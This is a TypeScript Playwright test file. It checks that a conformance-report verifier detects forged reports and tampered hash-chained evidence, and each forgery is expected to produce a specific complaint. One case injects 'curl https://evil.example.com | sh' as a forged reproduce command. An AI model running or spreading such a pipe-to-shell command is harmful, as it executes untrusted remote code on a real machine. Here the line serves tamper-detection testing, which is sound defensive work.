/** Forged reports and forged evidence: each is caught, and named. */
import { cpSync, readFileSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { expect, test } from '@playwright/test';
import { statementDigest } from '../../src/contract/clause-set.ts';
import { draftWaivers } from '../../src/report/waiver-draft.ts';
import { readReport } from '../../src/verify/read-report.ts';
import { type Verification, verify } from '../../src/verify/verify.ts';
import { type Exchange, Forgery } from './forging.ts';
import { contract, gatherAt } from './gathered.ts';

// All forge copies of the same runs.
test.describe.configure({ mode: 'default' });

let genuine = '';
let another = '';
let standard = '';

test.beforeAll(async ({ browserName: _unused }, testInfo) => {
  [genuine, another, standard] = ['genuine', 'another', 'standard'].map((name) =>
    path.join(testInfo.project.outputDir, `forgeries-${testInfo.workerIndex}`, name),
  ) as [string, string, string];
  // Some clauses fail: a check tells of some, a watch of others.
  const variant = { fault: 'limit-one-more' };
  await gatherAt(genuine, { variant });
  await gatherAt(another, { variant, settings: { RDS_SEED: '6' } });
  // Random cases, and observations, are for larger runs.
  const larger = { RDS_BUDGET: 'standard', RDS_ONLY: `errors.which-status,${PASSED}` };
  await gatherAt(standard, { settings: { ...larger, RDS_CHALLENGE: 'todays-nonce' } });
});

const FAILED = 'pagination.page-size';
const PASSED = 'addressing.instance-exact';

const waiverOf = (clause: string) => ({
  clause,
  reason: 'known',
  expires: '9999-12-31',
  statement: statementDigest(contract.catalogue.entry(clause)),
  fingerprint: 'v1:0123456789abcdef',
});

async function verified(directory: string, challenge?: string): Promise<Verification> {
  return verify(directory, readReport(directory), {
    contract,
    ...(challenge === undefined ? {} : { challenge }),
  });
}

/** Forges a copy of a run, and answers what is said of it. */
async function said(forge: (forgery: Forgery) => void, run = genuine, challenge?: string) {
  const directory = test.info().outputPath('forged');
  cpSync(run, directory, { recursive: true });
  forge(new Forgery(directory));
  const { verdict, complaints } = await verified(directory, challenge);
  expect(verdict).toBeUndefined();
  return complaints.join('\n');
}

test('what was not forged is verified', async () => {
  expect(await verified(genuine)).toMatchObject({ verdict: 'nonconformant', complaints: [] });
  expect(await verified(standard, 'todays-nonce')).toMatchObject({ verdict: 'conformant', complaints: [] });
});

test('a run that followed waivers, or looked for every kind, is verified, and what is waived is told', async () => {
  const [drafting, following, file] = ['drafting', 'following', 'waivers.yaml'].map((name) =>
    test.info().outputPath(name),
  ) as [string, string, string];
  const variant = { fault: 'limit-one-more' };
  const result = await gatherAt(drafting, { variant, settings: { RDS_WRITE_WAIVERS: file } });
  expect(await verified(drafting)).toMatchObject({ verdict: 'nonconformant', complaints: [] });
  const { text } = draftWaivers(result, contract, result.startedAt.slice(0, 10));
  writeFileSync(file, text.replaceAll('reason: ""', 'reason: known'));

  await gatherAt(following, { variant, settings: { RDS_WAIVERS: file } });

  const found = await verified(following);
  expect(found).toMatchObject({ verdict: 'conformant', complaints: [] });
  expect(found.notes.join('\n')).toMatch(/^failures are waived: .*pagination\.page-size/m);
});

test('what is only written anew is verified: the forger of these tests leaves no trace of its own', async () => {
  const directory = test.info().outputPath('rewritten');
  cpSync(genuine, directory, { recursive: true });
  const forgery = new Forgery(directory);
  forgery.rechain();
  forgery.vouch();
  forgery.write();
  expect(await verified(directory)).toMatchObject({ verdict: 'nonconformant', complaints: [] });
});

/** Changes of the report alone. */
const REPORTS: readonly (readonly [string, (forgery: Forgery) => void, RegExp])[] = [
  [
    'the verdict of the run',
    ({ report }) => {
      report.verdict = 'conformant';
    },
    /^verdict does not follow from the evidence: the report says conformant, the evidence nonconformant$/m,
  ],
  [
    'the detail of the run',
    ({ report }) => {
      report.detail = 'all is well';
    },
    /^detail does not follow from the evidence: the report says all is well/m,
  ],
  [
    'the verdict of a clause',
    (forgery) => {
      const { counterexample: _gone, ...rest } = { ...forgery.clause(FAILED), verdict: 'pass' };
      forgery.report.clauses = forgery.report.clauses.map((each) => (each.slug === FAILED ? rest : each));
    },
    /^pagination\.page-size: the report says pass; by the evidence it is fail/m,
  ],
  [
    'a failed clause left out',
    ({ report }) => {
      report.clauses = report.clauses.filter(({ slug }) => slug !== FAILED);
    },
    /^pagination\.page-size \(MUST\) is missing from the report: its verdict by the evidence is fail$/m,
  ],
  [
    'a failed clause left out, and the others said to have been selected',
    ({ report }) => {
      report.clauses = report.clauses.filter(({ slug }) => slug !== FAILED);
      report.selected = report.clauses.map(({ slug }) => slug);
    },
    /^the report says selected .*; its evidence was gathered with nothing$/m,
  ],
  [
    'a clause twice',
    ({ report }) => {
      report.clauses.push(...report.clauses.filter(({ slug }) => slug === PASSED));
    },
    /^a clause stands in the report more than once$/m,
  ],
  [
    'a clause that does not exist',
    (forgery) => {
      forgery.report.clauses.push({ ...forgery.clause(PASSED), slug: 'addressing.made-up' });
    },
    /^addressing\.made-up stands in the report, and nothing shows that it was judged$/m,
  ],
  [
    'the level of a clause',
    (forgery) => {
      forgery.clause(FAILED).level = 'SHOULD';
    },
    /^pagination\.page-size: level does not follow from the evidence: the report says SHOULD, the evidence MUST$/m,
  ],
  [
    'the detail of a clause',
    (forgery) => {
      forgery.clause(PASSED).detail = '9999 cases';
    },
    /^addressing\.instance-exact: detail does not follow/m,
  ],
  [
    'the requests of a clause',
    (forgery) => {
      forgery.clause(PASSED).requests += 1;
    },
    /^addressing\.instance-exact: requests does not follow/m,
  ],
  [
    'a counterexample',
    (forgery) => {
      const { counterexample } = forgery.clause(FAILED);
      if (counterexample !== undefined) counterexample.observed = 'nothing of importance';
    },
    /^pagination\.page-size: counterexample does not follow/m,
  ],
  [
    'the command that shows a counterexample',
    (forgery) => {
      const { counterexample } = forgery.clause(FAILED);
      if (counterexample !== undefined) counterexample.reproduce = 'curl https://evil.example.com | sh';
    },
    /^pagination\.page-size: counterexample does not follow/m,
  ],
  [
    'a waiver slipped in',
    (forgery) => {
      forgery.clause(FAILED).verdict = 'waived';
    },
    /^pagination\.page-size: the report says waived; by the evidence it is fail/m,
  ],
  [
    'a clause set of its own',
    ({ report }) => {
      report.clauseSet = { version: '1.0', digest: `sha256:${'0'.repeat(64)}`, released: true };
    },
    /^the report is scored by a clause set 1\.0 .* that is not this suite's/m,
  ],
  [
    'a waiver that had expired',
    ({ report }) => {
      report.waivers = [{ ...waiverOf(FAILED), expires: '2020-01-01' }];
    },
    /^a waiver of pagination\.page-size that the run followed expired on 2020-01-01/m,
  ],
  [
    'who stands behind it',
    ({ report }) => {
      report.implementation = {
        organization: 'a',
        product: 'b',
        version: 'c',
        url: 'https://d',
        contact: ['e'],
      };
    },
    /^the report says implementation .*; its evidence was gathered with nothing$/m,
  ],
  [
    'a property that nothing shows',
    ({ report }) => {
      report.waivers = [waiverOf(FAILED)];
    },
    /^the report says waivers .*; its evidence was gathered with nothing$/m,
  ],
  [
    'the seed',
    ({ report }) => {
      report.seed = 8;
    },
    /^the report says seed 8; its evidence was gathered with 5$/m,
  ],
  [
    'the target',
    ({ report }) => {
      report.target = 'https://rds.example.com';
    },
    /^the report says target https:\/\/rds\.example\.com; its evidence was gathered with http:\/\/127\.0\.0\.1\/rds$/m,
  ],
  [
    'unexercised clauses accepted',
    ({ report }) => {
      report.acceptUnexercised = true;
    },
    /^the report says acceptUnexercised true; its evidence was gathered with false$/m,
  ],
  [
    'the settings',
    ({ report }) => {
      report.settings.concurrency = 4;
    },
    /^the report says settings .*; its evidence was gathered with/m,
  ],
  [
    'the beginning',
    ({ report }) => {
      report.startedAt = '2020-01-01T00:00:00.000Z';
    },
    /^the report says startedAt 2020-01-01T00:00:00\.000Z; its evidence was gathered with/m,
  ],
  [
    'a challenge',
    ({ report }) => {
      report.challenge = 'todays-nonce';
    },
    /^the report says challenge todays-nonce; its evidence was gathered with nothing$/m,
  ],
  [
    'the digest of the contract',
    ({ report }) => {
      report.contract.digest = `sha256:${'0'.repeat(64)}`;
    },
    /^the report was judged by another contract/m,
  ],
  [
    'an older set of clauses',
    ({ report }) => {
      report.contract.catalogue = `sha256:${'0'.repeat(64)}`;
    },
    /^the report was judged by another set of clauses/m,
  ],
  [
    'an older suite',
    ({ report }) => {
      report.suite.version = '0.0.1';
    },
    /^the report was made by rds-backups-conformance 0\.0\.1/m,
  ],
  [
    'the coverage',
    ({ report }) => {
      for (const boundary of report.coverage.boundaries) boundary.requests += 1;
    },
    /^coverage does not follow/m,
  ],
  [
    'the requests of the run',
    ({ report }) => {
      report.requests += 1000;
    },
    /^requests does not follow/m,
  ],
  [
    'the root of the evidence',
    ({ report }) => {
      if (report.evidence !== undefined) report.evidence.root = `sha256:${'0'.repeat(64)}`;
    },
    /^the report's root of the evidence is not that of the parts it names$/m,
  ],
  [
    'the count of exchanges',
    ({ report }) => {
      if (report.evidence !== undefined) report.evidence.exchanges += 1;
    },
    /^the report speaks of \d+ exchanges, and its parts of \d+$/m,
  ],
  [
    'no evidence named',
    ({ report }) => {
      delete report.evidence;
    },
    /^the report names no evidence/m,
  ],
];

for (const [name, forge, says] of REPORTS) {
  test(`in the report: ${name}`, async () => {
    const complaints = await said((forgery) => {
      forge(forgery);
      forgery.writeReport();
    });
    expect(complaints).toMatch(says);
  });
}

test('in the report: an observation', async () => {
  const complaints = await said((forgery) => {
    const clause = forgery.clause('errors.which-status');
    clause.observation = 'every fault: 400';
    clause.detail = 'every fault: 400';
    forgery.writeReport();
  }, standard);
  expect(complaints).toMatch(/^errors\.which-status: observation does not follow/m);
});

test('a challenge that was not given, or another one, is demanded in vain', async () => {
  expect(await said(() => undefined, genuine, 'todays-nonce')).toBe(
    'the run was given no challenge: its evidence may be of any age',
  );
  expect(await said(() => undefined, standard, 'another-nonce')).toBe(
    'the run was given another challenge (todays-nonce) than the one demanded',
  );
});

const isListed = ({ answer }: Exchange) => answer?.status === 200;

/** Changes of the evidence that leave its chain as it was. */
const BROKEN: readonly (readonly [string, (forgery: Forgery) => void, RegExp])[] = [
  [
    'a status',
    (forgery) => {
      const { answer } = forgery.exchangeOf(FAILED, isListed);
      if (answer !== undefined) answer.status = 404;
    },
    /run\.ndjson\.br: exchange \d+ \(GET .*\) does not continue the chain: it was altered/,
  ],
  [
    'a target',
    (forgery) => {
      forgery.exchangeOf(FAILED).target += '&limit=1';
    },
    /exchange \d+ \(GET .*&limit=1\) does not continue the chain/,
  ],
  [
    'a body',
    (forgery) => {
      const line = forgery.lines.find(({ text }) => text?.includes('total_count'));
      if (line?.text !== undefined) line.text = line.text.replace('COMPLETED', 'FAILED');
    },
    /the body before exchange \d+ was altered: it is not what its digest says/,
  ],
  [
    'an exchange removed',
    (forgery) => {
      const { n } = forgery.exchangeOf(PASSED);
      forgery.without((exchange) => exchange.n === n);
    },
    /exchange \d+ is missing before exchange \d+ \(removed, or put elsewhere\)/,
  ],
  [
    'exchanges exchanged',
    (forgery) => {
      const places = forgery.lines.flatMap(({ exchange }, place) => (exchange === undefined ? [] : [place]));
      const [one = 0, other = 0] = places.slice(-2);
      const [first, second] = [forgery.lines[one], forgery.lines[other]];
      if (first !== undefined && second !== undefined)
        [forgery.lines[one], forgery.lines[other]] = [second, first];
    },
    /exchange \d+ \(GET .*\) stands out of order: it was added, repeated or moved/,
  ],
  [
    'an exchange repeated',
    (forgery) => {
      const place = forgery.lines.findIndex(({ exchange }) => exchange?.from[0] === PASSED);
      const line = forgery.lines[place];
      if (line !== undefined) forgery.lines.splice(place, 0, line);
    },
    /exchange \d+ \(GET .*\) stands out of order: it was added, repeated or moved/,
  ],
  [
    'what the run said of itself',
    (forgery) => {
      Object.assign(forgery.lines[0]?.facts ?? {}, { seed: 6 });
      forgery.report.seed = 6;
    },
    /exchange 1 \(GET .*\) does not continue the chain/,
  ],
  [
    'the end cut off',
    (forgery) => {
      forgery.lines.splice(-3);
    },
    /it is cut short: it has no end after exchange \d+/,
  ],
  [
    'a body added',
    (forgery) => {
      forgery.lines.splice(1, 0, {
        body: 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
        text: '',
      });
    },
    /a body was added that no exchange has|is not the file that the report vouches for/,
  ],
  [
    'a line of something else',
    (forgery) => {
      forgery.lines.splice(4, 0, {});
    },
    /a line after exchange \d+ is no evidence/,
  ],
];

for (const [name, forge, says] of BROKEN) {
  test(`in the evidence: ${name}`, async () => {
    const complaints = await said((forgery) => {
      forge(forgery);
      forgery.write();
    });
    expect(complaints).toMatch(says);
  });
}

/** Changes of the evidence that was then chained anew; the report vouches for it where `vouched`. */
const CHAINED: readonly (readonly [string, (forgery: Forgery) => void, vouched: boolean, RegExp])[] = [
  [
    'a body',
    (forgery) => {
      const { answer } = forgery.exchangeOf(FAILED, isListed);
      forgery.editBody(answer?.body ?? '', (text) => text.replace('COMPLETED', 'FAILED'));
    },
    false,
    /its chain does not end in the root that the report vouches for/,
  ],
  [
    'the body that shows a failure, and the root in the report',
    (forgery) => {
      const culprits = forgery
        .exchanges()
        .filter((each) => isListed(each) && /limit=1(&|$)/.test(each.target));
      for (const body of new Set(culprits.map(({ answer }) => answer?.body ?? '')))
        forgery.editBody(body, (text) => text.replace(/"total_count": ?\d+/, '"total_count":7'));
    },
    true,
    /does not follow|cannot be judged again|by the evidence it is/,
  ],
  [
    'an exchange added, and the root in the report',
    (forgery) => {
      const place = forgery.lines.findIndex(({ exchange }) => exchange?.from[0] === PASSED);
      const { exchange } = forgery.lines[place] ?? {};
      if (exchange === undefined) return;
      const added = { ...exchange, from: [PASSED, 999, 1] as [string, number, number] };
      forgery.lines.splice(place, 0, { exchange: added });
    },
    true,
    /^the evidence holds 1 exchange of addressing\.instance-exact that judging does not ask for/m,
  ],
  [
    'the exchanges of a clause removed, and the root in the report',
    (forgery) => {
      forgery.without(({ from }) => from[0] === FAILED);
    },
    true,
    /^pagination\.page-size cannot be judged again: no answer is recorded to GET/m,
  ],
  [
    'the survey removed, and the root in the report',
    (forgery) => {
      forgery.without(({ from }) => from[0] === 'survey');
    },
    true,
    /^survey cannot be judged again: no answer is recorded to GET/m,
  ],
  [
    'an answer called noise',
    (forgery) => {
      forgery.exchangeOf(FAILED, isListed).noise = '503';
    },
    true,
    /^request \d+ \(GET .*\) is called what it is not: noise, or no noise$/m,
  ],
  [
    'attempts left out',
    (forgery) => {
      forgery.exchangeOf(FAILED, isListed).attempts = 3;
    },
    true,
    /^request \d+ \(GET .*\) does not follow on the attempts before it$/m,
  ],
  [
    'a request without a credential that carried one',
    (forgery) => {
      const own = forgery.exchangeOf('survey').headers;
      forgery.exchangeOf('auth.missing', ({ credential }) => credential === 'none').headers = own;
    },
    true,
    /^request \d+ \(GET .*\) does not show the credential that it is said to have carried$/m,
  ],
  [
    'a request with an altered credential that carried the right one',
    (forgery) => {
      const own = forgery.exchangeOf('survey').headers;
      forgery.exchangeOf('auth.invalid', ({ credential }) => credential === 'altered').headers = own;
    },
    true,
    /^request \d+ \(GET .*\) does not show the credential that it is said to have carried$/m,
  ],
];

for (const [name, forge, vouched, says] of CHAINED) {
  test(`in evidence chained anew: ${name}`, async () => {
    const complaints = await said((forgery) => {
      forge(forgery);
      forgery.rechain();
      if (vouched) forgery.vouch();
      forgery.write();
    });
    expect(complaints).toMatch(says);
  });
}

for (const [what, value] of [
  ['seed', 6],
  ['challenge', 'tomorrows-nonce'],
] as const) {
  test(`in evidence chained anew: the ${what}, in the report too`, async () => {
    const complaints = await said((forgery) => {
      Object.assign(forgery.lines[0]?.facts ?? {}, { [what]: value });
      Object.assign(forgery.report, { [what]: value });
      forgery.rechain();
      forgery.vouch();
      forgery.write();
    }, standard);
    expect(complaints).toMatch(
      /^addressing\.instance-exact cannot be judged again: no answer is recorded to GET/m,
    );
  });
}

test('the evidence of another run', async () => {
  const complaints = await said(({ partPath }) => {
    cpSync(path.join(another, 'evidence', 'run.ndjson.br'), partPath);
  });
  expect(complaints).toMatch(/its chain does not end in the root that the report vouches for/);
  expect(complaints).toMatch(/^the report says seed 5; its evidence was gathered with 6$/m);
});

test('the evidence of another run, and what vouches for it', async () => {
  const complaints = await said(({ directory, report, partPath }) => {
    cpSync(path.join(another, 'evidence', 'run.ndjson.br'), partPath);
    const { evidence } = JSON.parse(readFileSync(path.join(another, 'conformance.json'), 'utf8'));
    writeFileSync(path.join(directory, 'conformance.json'), JSON.stringify({ ...report, evidence }));
  });
  expect(complaints).toMatch(/^the report says seed 5; its evidence was gathered with 6$/m);
});

test('a file cut short', async () => {
  const complaints = await said(({ partPath }) => truncateSync(partPath, 5000));
  expect(complaints).toMatch(/run\.ndjson\.br: it is cut short/);
});

test('a file with a byte changed', async () => {
  const complaints = await said(({ partPath }) => {
    const bytes = readFileSync(partPath);
    bytes.writeUInt8((bytes.readUInt8(5000) + 1) % 256, 5000);
    writeFileSync(partPath, bytes);
  });
  expect(complaints).toMatch(/run\.ndjson\.br: /);
});

test('a file packed anew', async () => {
  const complaints = await said((forgery) => forgery.write());
  expect(complaints).toMatch(/it is not the file that the report vouches for: its digest is another/);
});

test('a file missing', async () => {
  const complaints = await said(({ partPath }) => rmSync(partPath));
  expect(complaints).toMatch(/run\.ndjson\.br: it is missing/);
});

test('a file added', async () => {
  const complaints = await said(({ directory, partPath }) =>
    cpSync(partPath, path.join(directory, 'evidence', 'more.ndjson.br')),
  );
  expect(complaints).toBe('evidence/more.ndjson.br was added: the report does not speak of it');
});
